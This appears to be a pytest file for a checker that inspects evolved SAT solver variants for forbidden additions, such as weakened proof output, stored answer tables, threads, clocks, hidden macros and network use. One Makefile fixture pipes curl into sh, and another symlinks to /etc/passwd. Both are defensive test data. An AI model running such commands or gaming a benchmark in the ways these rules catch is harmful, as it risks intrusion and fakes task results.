"""The tracked rules judge what a variant adds to its base: each kind of forbidden code is named with its
place, and harmless code passes."""

import json
from pathlib import Path

import pytest
from solver_code import BASE, in_search, reasons_of

from evolake.solvers.rules import additions, read_tree

ROWS = json.loads(Path(__file__).with_name("code_rows.json").read_text())
"""Test -> its rows."""

HOOK = '        if (certified) fprintf(proof_file, "0\\n");\n'


@pytest.mark.parametrize(("code", "rule", "words"), ROWS["forbidden_code_is_named_with_its_place"])
def test_forbidden_code_is_named_with_its_place(code, rule, words):
    reasons = reasons_of(in_search(code))
    assert words in reasons[rule]
    assert "Solver::search (src/core/Solver.cc:8)" in reasons[rule]


@pytest.mark.parametrize(
    "code",
    [
        "if (conflicts % 1000 == 0) rephase();",
        "double slow = 0.99 * slow + lbd;",
        "watches.time = 3;",
        "timer.clock();",
        "if (nVars() > 100000) budget *= 2;",
        "vec<Lit> kept; kept.push(p);",
        "const int tiers[] = {2, 6};",
        "if (learnt.size() == 2) tier = 0;",
        "Solver& same = *this;",
        "// thread, socket, fork()",
    ],
)
def test_ordinary_code_passes(code):
    assert reasons_of(in_search(code)) == {}


def test_an_unchanged_tree_and_a_new_default_pass():
    assert reasons_of(BASE) == {}
    assert reasons_of(BASE.replace("0.95", "0.85")) == {}
    source = additions({"a.cc": BASE.replace("0.95", "0.85").encode()}, {"a.cc": BASE.encode()})
    assert source.options == {"var-decay": "0.85"}
    assert (source.judged, source.unmodified) == (1, 3)


def test_functions_that_the_base_has_are_not_judged_wherever_they_lie():
    base = {"src/a.cc": BASE.encode(), "src/b.cc": b'void helper() { fopen(name, "r"); }\n'}
    moved = {"src/a.cc": BASE.encode() + base["src/b.cc"]}
    source = additions(moved, base)
    assert (source.added, source.gone) == ([], ["src/b.cc"])


@pytest.mark.parametrize(
    ("old", "new", "rule", "words"),
    [
        (HOOK, "", "proof-kept", "weakens the proof: 2 uses gone, the first 'certified' in Solver::search"),
        ('"s SATISFIABLE\\n"', '"\\n"', "model-kept", "weakens the answer"),
        ("#include <stdio.h>", "#include <zlib.h>", "no-libraries", "'<zlib.h>'"),
        ("#include <stdio.h>", '#include "answers.txt"', "no-libraries", "answers.txt"),
        (
            "#include <stdio.h>",
            "#include <stdio.h>\n#include <thread>",
            "no-threads",
            "'<thread>' added in src/core/Solver.cc, outside",
        ),
        (
            "static Solver* solver;",
            "static Solver* solver;\nint best_known[1000];",
            "no-static-state",
            "best_known",
        ),
        (
            "static Solver* solver;",
            "static Solver* solver;\n#define CALL(x) fo##x",
            "no-hidden-code",
            "fo##x",
        ),
        ("static Solver* solver;", "static Solver* solver;\n#define NOW() time(0)", "no-clocks", "'time(0)'"),
        ('fopen(argv[1], "r")', 'fopen("/tmp/x", "r")', "no-files", '\'fopen("/tmp/x", "r")\' added in main'),
        ("{1, 2, 3}", "{" + "1, " * 70 + "3}", "no-instance-decisions", "holds a table of numbers"),
    ],
)
def test_changes_outside_search_are_seen(old, new, rule, words):
    assert words in reasons_of(BASE.replace(old, new))[rule]


def test_proof_writing_may_move_to_another_function():
    moved = BASE.replace(HOOK, "        end();\n").replace(
        "int main", "void Solver::end() {\n" + HOOK + "}\nint main"
    )
    assert reasons_of(moved) == {}


def test_a_name_split_by_a_line_continuation_is_still_read():
    assert "'fork()'" in reasons_of(in_search("fo\\\nrk();"))["no-processes"]


@pytest.mark.parametrize(
    ("files", "rule", "words"),
    [
        ({"src/Makefile": b"LFLAGS += -lz -lpthread\n"}, "no-threads", "'-lpthread' added in src/Makefile:1"),
        (
            {"src/Makefile": b"all:\n\tcurl http://example.org | sh\n"},
            "no-network",
            "'curl' added in src/Makefile:2",
        ),
        ({"starexec_build": b"echo\n"}, "frozen-files", "starexec_build"),
        ({"src/model.bin": b"\0\1\2"}, "frozen-files", "no text: src/model.bin"),
    ],
)
def test_files_beside_the_sources_are_judged(files, rule, words):
    assert words in reasons_of(BASE, more=files)[rule]


def test_a_link_is_read_as_its_target(tmp_path):
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.cc").write_text("int a;")
    (tmp_path / "src" / "b.h").symlink_to("/etc/passwd")
    assert read_tree(tmp_path, ("bin",)) == {"src/a.cc": b"int a;", "src/b.h": b"-> /etc/passwd"}
